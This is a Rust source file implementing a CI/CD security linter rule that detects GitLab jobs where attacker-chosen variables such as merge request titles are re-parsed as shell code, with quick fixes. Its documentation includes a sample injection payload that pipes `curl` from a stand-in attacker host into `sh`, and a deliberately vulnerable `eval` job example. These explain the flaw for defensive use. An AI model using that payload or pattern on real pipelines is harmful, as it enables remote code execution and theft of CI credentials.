//! `gitlab-script-injection`: text someone else chooses, parsed again as code by a job.

use std::collections::HashMap;
use std::ops::Range;

use super::{
    Applicability, Confidence, Finding, Findings, Fix, Platform, Reference, Rule, RuleDocs, RuleMeta, Severity, fix,
    taint,
};
use crate::matrix::{OwaspCicd, Technique};
use crate::model::gitlab::{GitlabJob, Globals};
use crate::model::gitlab_variables::{Scope, Taint};
use crate::model::reparse;
use crate::model::shell::{Command, PartKind, Script, Word};

pub struct GitlabScriptInjection;

static META: RuleMeta = RuleMeta {
    id: "gitlab-script-injection",
    technique: Technique::EX06,
    severity: Severity::High,
    confidence: Confidence::High,
    platforms: &[Platform::GitlabCi],
    docs: RuleDocs {
        summary: "Text someone else chooses is parsed again as code by a job",
        detects: "A predefined variable whose value someone other than the maintainers chooses \
(merge request titles, descriptions and source branches, commit messages and authors, branch \
and tag names, labels: see docs/gitlab-variables.md), directly or through `variables:` and \
shell assignments, in a place where it is parsed again as code: the arguments of `eval`, the \
command string of `sh -c`/`bash -c` (also inside `docker exec`, `find -exec`, `su -c`), the \
program of `python -c`, `node -e`, `perl -e`, `ruby -e`, `php -r`, `awk` or `pwsh -Command`, \
the remote command of `ssh host \"...\"`, text piped or fed as a here-document to a shell, a \
script the job writes (`echo ... > x.sh`, `cat > x.sh <<EOF`) and then runs (`sh x.sh`, \
`source x.sh`, `./x.sh`), `envsubst` told to substitute it into such a script, an \
unquoted variable used as the command itself; and, as medium, `$[[ inputs.name ]]` of a \
free-text `spec:` input in a script, which GitLab pastes into the configuration as text. Not reported, because the shell expands the \
value once and never runs it: `echo \"$CI_MERGE_REQUEST_TITLE\"`, `git checkout \
$CI_COMMIT_REF_NAME` (unquoted arguments are split into words, not run), `$(...)` and \
backquotes around such a variable, and values that cannot hold shell syntax \
(`$CI_COMMIT_REF_SLUG`, SHAs). Severity follows who chooses the value where the job runs: \
high for merge request text in jobs that run in merge request pipelines, medium for branch \
and tag names and labels, low for commit messages on the default branch.",
        why: "GitLab does not paste variables into scripts: the shell expands them when the \
line runs, so a quoted `\"$CI_MERGE_REQUEST_TITLE\"` is only ever text. `eval`, `sh -c` and \
the other places above take that text and parse it as a new command line: a title such as \
`x\"; curl -s evil.example | sh; \"` then runs the attacker's commands on the runner, with the \
job's variables and tokens. A merge request's author can change `.gitlab-ci.yml` in their \
branch anyway, but a fork's pipeline only runs in this project, with its variables, after a \
member reads the diff and starts it; the title, description and branch name are not in the \
diff, and can be changed until the pipeline starts.",
        attack: "Execution › Modify CI/CD configurations (EX06): the attacker rewrites the \
commands the job runs without changing a file. It usually starts at Initial Access › Public \
repositories (IA01), a merge request from a fork, and leads to Credential Access › Env \
variables stored in CI/CD (CA02): the job's CI/CD variables, `CI_JOB_TOKEN` and any deployment \
credentials it holds.",
        example: r#"stages: [test]
announce:
  stage: test
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
  script:
    - eval "echo Testing $CI_MERGE_REQUEST_TITLE"
"#,
        fixed_example: r#"stages: [test]
announce:
  stage: test
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
  script:
    - echo "Testing $CI_MERGE_REQUEST_TITLE"
"#,
        fix: "Use the variable as data: quote it as an argument (`echo \"$TITLE\"`), pass it \
to `sh -c` as a positional parameter (`sh -c 'echo \"$1\"' _ \"$CI_COMMIT_REF_NAME\"`), read \
it from the environment inside interpreters (`os.environ[\"CI_MERGE_REQUEST_TITLE\"]`, \
`process.env.CI_MERGE_REQUEST_TITLE`), and write generated scripts with a quoted \
here-document (`<<'EOF'`) that reads the variable when it runs. For a variable written \
into the code of `eval` or of a shell's `-c` string run by this job, the quick fix \
\"Let ... expand `$NAME` itself, quoted\" escapes it so that the shell parsing the code \
expands it, once, as one quoted word: `eval \"echo Checking $CI_MERGE_REQUEST_TITLE\"` becomes \
`eval \"echo Checking \\\"\\$CI_MERGE_REQUEST_TITLE\\\"\"` (inside quotes the code already \
has, it is closed and reopened around the variable). It is offered only where that shell \
has the variable: `eval` runs in the job's shell; a new `sh -c` sees GitLab's CI/CD \
variables but not the script's own shell variables; a container (`docker exec`), `ssh` or \
another language (`python -c`) does not, and those get no fix. It is not offered where the \
value is the command itself (`eval \"$CMD\"`). It is unsafe: a script that meant the value to \
be split into several words, or run, behaves differently. For `$[[ inputs.NAME ]]` in a \
script line of the job, the quick fix \"Pass the input ... through the variable ...\" moves \
the interpolation into the job's `variables:` (`INPUT_NAME: '$[[ inputs.NAME ]]'`, added to \
the mapping when the job has one, with a number added to the name when it is taken; a \
variable that already holds the same interpolation is reused) and reads it quoted where it \
was (`\"$INPUT_NAME\"`, `${INPUT_NAME}` inside double quotes), so GitLab pastes the value as \
data and the shell never parses it. It is unsafe too: a value meant to be several words, or \
shell code, now arrives as one word, and GitLab expands `$VARIABLE` references in a \
variable's value. It is not offered for a line of a template the job extends.",
    },
    references: &[
        Reference::Owasp(OwaspCicd::Sec4),
        Reference::Cwe(
            78,
            "Improper Neutralization of Special Elements used in an OS Command ('OS Command Injection')",
        ),
        Reference::Cwe(94, "Improper Control of Generation of Code ('Code Injection')"),
        Reference::Link(
            "GitLab: Predefined CI/CD variables reference",
            "https://docs.gitlab.com/ci/variables/predefined_variables/",
        ),
    ],
};

impl Rule for GitlabScriptInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check_gitlab_job(&self, globals: &Globals, job: &GitlabJob, out: &mut Findings) {
        let scope = Scope::new(globals, job);
        let lines: Vec<&Script> = job.scripts().collect();
        let mut written: HashMap<String, Vec<Written>> = HashMap::new();
        for (index, script) in lines.iter().enumerate() {
            interpolated_inputs(globals, job, script, out);
            for command in &script.commands {
                let at = scope.in_script(index, command.range.start);
                for code in reparse::code_words(command) {
                    for (range, taint) in tainted_expansions(&at, script, code.word) {
                        let how = format!("is parsed again as code by {}", code.parser);
                        let finding = report(out, script.span_of(range.clone()), &taint, &how);
                        if let Some(fix) = read_from_environment(&at, script, command, code.word, range) {
                            finding.with_fix(fix);
                        }
                    }
                }
                if let Some(parser) = reparse::stdin_parser(command) {
                    for (range, taint) in content(&at, script, command) {
                        let how = format!("is fed to {parser}, which runs what it reads as commands");
                        report(out, script.span_of(range), &taint, &how);
                    }
                }
                command_position(&at, script, command, out);
                let targets: Vec<String> = script.written_files(command).filter_map(path_of).collect();
                if !targets.is_empty() {
                    for (range, taint) in content(&at, script, command) {
                        for path in &targets {
                            let write = Written { line: index, range: range.clone(), taint: taint.clone() };
                            written.entry(path.clone()).or_default().push(write);
                        }
                    }
                }
                // Each write is reported once, where the file it went into first runs.
                let Some(file) = reparse::executed_file(command).and_then(path_of) else { continue };
                let Some(writes) = written.remove(&file) else { continue };
                let runner = excerpt(script.slice(command.range.clone()));
                for write in writes {
                    let how = format!("is written into `{file}`, which this job then runs (`{runner}`)");
                    report(out, lines[write.line].span_of(write.range), &write.taint, &how);
                }
            }
        }
    }
}

/// `$[[ inputs.name ]]` of free-text inputs in a script line: GitLab pastes the value into
/// the configuration before the pipeline exists, so it is code, however it is quoted.
fn interpolated_inputs(globals: &Globals, job: &GitlabJob, script: &Script, out: &mut Findings) {
    let text = &script.text.value;
    for (at, _) in text.match_indices("$[[") {
        let Some(close) = text[at..].find("]]").map(|found| at + found + 2) else { continue };
        let inner = &text[at + 3..close - 2];
        let Some(rest) = inner.trim_start().strip_prefix("inputs.") else { continue };
        let name: String = rest.chars().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-')).collect();
        if !globals.inputs.iter().any(|input| input.name.value == name && input.free_text) {
            continue;
        }
        let expanded = if inner.contains("expand_vars") {
            ", and `expand_vars` pastes the values of the variables it names (a `$CI_MERGE_REQUEST_TITLE` passed in) as well"
        } else {
            ""
        };
        let finding = out
            .report(
                script.span_of(at..close),
                format!(
                    "the input `{name}` is pasted into the script before it runs: whoever sets it (the configuration that includes this file, or whoever runs the pipeline with inputs) writes part of the script{expanded}"
                ),
            )
            .with_severity(Severity::Medium)
            .with_confidence(Confidence::Medium);
        if let Some(fix) = input_through_variable(globals, job, script, at..close, &name) {
            finding.with_fix(fix);
        }
    }
}

/// The fix for `$[[ inputs.NAME ]]` (at `range` of a script line): a variable of the job
/// holds the interpolation (`INPUT_NAME: '$[[ inputs.NAME ]]'`, where GitLab pastes the value
/// as data) and the script reads it quoted (`"$INPUT_NAME"`), so the shell never parses it.
/// A variable that already holds the same interpolation is read instead of adding one.
fn input_through_variable(
    globals: &Globals,
    job: &GitlabJob,
    script: &Script,
    range: Range<usize>,
    input: &str,
) -> Option<Fix> {
    // A line of a template the job extends is not the job's to rewrite.
    if !job.span.contains(script.text.span) {
        return None;
    }
    let interpolation = script.slice(range.clone());
    let existing = job
        .variables
        .iter()
        .chain(&globals.variables)
        .find(|variable| variable.value.as_ref().is_some_and(|value| value.value == interpolation));
    let (variable, declare) = match existing {
        Some(variable) => (variable.name.value.clone(), None),
        None => {
            let variable = unused_variable_name(globals, job, input)?;
            let entry = format!("{variable}: '{}'", interpolation.replace('\'', "''"));
            let block = job.variables_block.as_ref();
            (variable, Some(fix::add_to_mapping(block, "variables", job.first_key?, job.key_column, &entry)?))
        }
    };
    let reference = fix::shell_env_reference(script, range.start, &variable)?;
    let replace = fix::replace_in_text(&script.text, script.span_of(range), &reference)?;
    Some(Fix {
        title: format!("Pass the input `{input}` through the variable `{variable}`").into(),
        applicability: Applicability::Unsafe,
        edits: declare.into_iter().chain([replace]).collect(),
    })
}

/// `INPUT_<NAME>` for an input, with a number added when a variable of the pipeline or a
/// script of the job already uses that name.
fn unused_variable_name(globals: &Globals, job: &GitlabJob, input: &str) -> Option<String> {
    let base = format!("INPUT_{}", input.to_ascii_uppercase().replace('-', "_"));
    let taken = |name: &str| {
        job.variables.iter().chain(&globals.variables).any(|variable| variable.name.value == name)
            || job.scripts().any(|script| script.text.value.contains(name))
    };
    (0..100).map(|n| if n == 0 { base.clone() } else { format!("{base}_{n}") }).find(|name| !taken(name))
}

/// A tainted value a script line wrote into a file.
struct Written {
    line: usize,
    range: Range<usize>,
    taint: Taint,
}

fn report<'a>(out: &'a mut Findings, span: crate::syntax::span::Span, taint: &Taint, how: &str) -> &'a mut Finding {
    let place = format!("in {}{}", taint.pipeline.name(), taint.runs.caveat());
    let message = format!(
        "{} {how}: {} can make this job run their own commands {place}",
        taint.describe(),
        taint.controller.who(),
    );
    out.report(span, message)
        .with_severity(taint::gitlab_injection_severity(taint))
        .with_confidence(taint::gitlab_injection_confidence(taint))
}

/// How the code a shell parses again sees a spot of it.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Quoting {
    Bare,
    Double,
    Single,
}

/// The fix for `$NAME` written into the code of `eval` or `sh -c` (at `range` of the code
/// word `word`): escape it so that the shell that parses the code expands it itself, once,
/// quoted, as data: `eval "echo Checking \"\$CI_MERGE_REQUEST_TITLE\""`. Only where that
/// shell has the variable (`eval` runs in this shell; `sh -c` sees GitLab's CI/CD variables,
/// not the script's own shell variables), not in a container, over `ssh` or in another
/// language, and not where the value is the command to run.
fn read_from_environment(
    scope: &Scope<'_>,
    script: &Script,
    command: &Command,
    word: &Word,
    range: Range<usize>,
) -> Option<Fix> {
    let part = word.parts.iter().find(|part| part.range == range)?;
    let name = word.variable(part)?;
    let local = match command.name()? {
        "eval" => true,
        shell => reparse::SHELLS.contains(&shell) && !scope.assigned_in_shell(name),
    };
    let written = script.slice(range.clone());
    if !local || !written.starts_with('$') {
        return None;
    }
    // What the parsing shell sees before the variable: the word as this shell passes it on.
    let before = script.slice(word.range.start..range.start);
    let (inner, outer_double) = passed_on(before)?;
    if outer_double != part.quoted {
        return None;
    }
    let quoting = inner_quoting(&inner)?;
    if names_the_command(&inner, quoting) {
        return None;
    }
    let wanted = match quoting {
        Quoting::Bare => format!("\"{written}\""),
        Quoting::Double => written.to_owned(),
        Quoting::Single => format!("'\"{written}\"'"),
    };
    let mut escaped = String::new();
    for c in wanted.chars() {
        match c {
            '"' | '$' | '\\' | '`' => escaped.push('\\'),
            '\'' if !part.quoted => escaped.push('\\'),
            _ => {}
        }
        escaped.push(c);
    }
    let edit = fix::replace_in_text(&script.text, script.span_of(range), &escaped)?;
    Some(Fix {
        title: format!(
            "Let {} expand `${name}` itself, quoted",
            if command.name() == Some("eval") { "`eval`" } else { "the shell" }
        )
        .into(),
        applicability: Applicability::Unsafe,
        edits: vec![edit],
    })
}

/// The text this shell passes on for the start of a word (`"echo \"a` becomes `echo "a`),
/// and whether the end of it is inside double quotes. Another variable counts as a word of
/// text; a command substitution, whose output cannot be known, gives `None`.
fn passed_on(written: &str) -> Option<(String, bool)> {
    let mut passed = String::new();
    let (mut double, mut single) = (false, false);
    let mut chars = written.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' if !double => single = !single,
            _ if single => passed.push(c),
            '"' => double = !double,
            '\\' => {
                let next = chars.next()?;
                if double && !matches!(next, '"' | '$' | '\\' | '`') {
                    passed.push('\\');
                }
                passed.push(next);
            }
            '$' if chars.peek() == Some(&'{') => {
                chars.by_ref().find(|c| *c == '}')?;
                passed.push('x');
            }
            '$' if chars.peek().is_some_and(|c| c.is_ascii_alphanumeric() || *c == '_') => {
                while chars.next_if(|c| c.is_ascii_alphanumeric() || *c == '_').is_some() {}
                passed.push('x');
            }
            '$' | '`' => return None,
            _ => passed.push(c),
        }
    }
    (!single).then_some((passed, double))
}

/// Whether the word that `code` ends inside is the first of a command: then the value is
/// the command to run (`eval "$CMD"`), and reading it quoted would not keep what it did.
fn names_the_command(code: &str, quoting: Quoting) -> bool {
    let head = match quoting {
        Quoting::Bare => code,
        Quoting::Double => &code[..code.rfind('"').unwrap_or(0)],
        Quoting::Single => &code[..code.rfind('\'').unwrap_or(0)],
    };
    let separators = [';', '&', '|', '(', '`', '\n'];
    let head = head.trim_end_matches(|c: char| !c.is_whitespace() && !separators.contains(&c)).trim_end();
    head.is_empty() || head.ends_with(separators)
}

/// The quoting at the end of `code`, as a shell parsing it sees it.
fn inner_quoting(code: &str) -> Option<Quoting> {
    let mut quoting = Quoting::Bare;
    let mut chars = code.chars();
    while let Some(c) = chars.next() {
        quoting = match (quoting, c) {
            (Quoting::Bare, '\'') => Quoting::Single,
            (Quoting::Single, '\'') => Quoting::Bare,
            (Quoting::Bare, '"') => Quoting::Double,
            (Quoting::Double, '"') => Quoting::Bare,
            (Quoting::Bare | Quoting::Double, '\\') => {
                chars.next()?;
                quoting
            }
            _ => quoting,
        };
    }
    Some(quoting)
}

/// The injectable expansions of a word parsed as code: its variables, and those printed by
/// the commands of its substitutions (`eval "$(echo "$X")"`).
fn tainted_expansions(scope: &Scope<'_>, script: &Script, word: &Word) -> Vec<(Range<usize>, Taint)> {
    let mut found = Vec::new();
    for part in &word.parts {
        match &part.kind {
            PartKind::Variable => found.extend(
                word.variable(part).and_then(|name| injectable(scope, name)).map(|taint| (part.range.clone(), taint)),
            ),
            PartKind::Substitution => {
                for command in script.commands_within(part.range.clone()) {
                    found.extend(emitted(scope, script, command));
                }
            }
            PartKind::Literal | PartKind::Expression => {}
        }
    }
    found
}

/// The injectable variables a command writes out, directly or through the commands piped
/// into it (`echo "$X" | tee run.sh`, `echo "$X" | sh`).
fn content(scope: &Scope<'_>, script: &Script, command: &Command) -> Vec<(Range<usize>, Taint)> {
    reparse::written_variables(script, command)
        .into_iter()
        .filter_map(|(name, range)| Some((range, injectable(scope, name)?)))
        .collect()
}

fn emitted(scope: &Scope<'_>, script: &Script, command: &Command) -> Vec<(Range<usize>, Taint)> {
    reparse::emitted_variables(script, command)
        .into_iter()
        .filter_map(|(name, range)| Some((range, injectable(scope, name)?)))
        .collect()
}

fn injectable(scope: &Scope<'_>, name: &str) -> Option<Taint> {
    scope.taint_of_variable(name).filter(Taint::injectable)
}

/// An unquoted variable that is the command itself: its value is split into a program and
/// its arguments, which run.
fn command_position(scope: &Scope<'_>, script: &Script, command: &Command, out: &mut Findings) {
    let Some(program) = command.name_index().map(|index| &command.words[index]) else { return };
    let Some(first) = program.parts.first() else { return };
    let Some(name) = program.variable(first) else { return };
    if first.quoted {
        return;
    }
    if let Some(taint) = injectable(scope, name).filter(Taint::is_direct) {
        report(out, script.span_of(first.range.clone()), &taint, "is run as a command, unquoted");
    }
}

/// The start of a command's text, for messages: its first line, at most 60 characters.
fn excerpt(command: &str) -> String {
    let line = command.trim().lines().next().unwrap_or_default();
    match line.char_indices().nth(60) {
        Some((cut, _)) => format!("{}...", &line[..cut]),
        None => line.to_owned(),
    }
}

/// A file path written literally, without a leading `./`.
fn path_of(word: &Word) -> Option<String> {
    word.is_literal().then(|| word.text.trim_start_matches("./").to_owned())
}
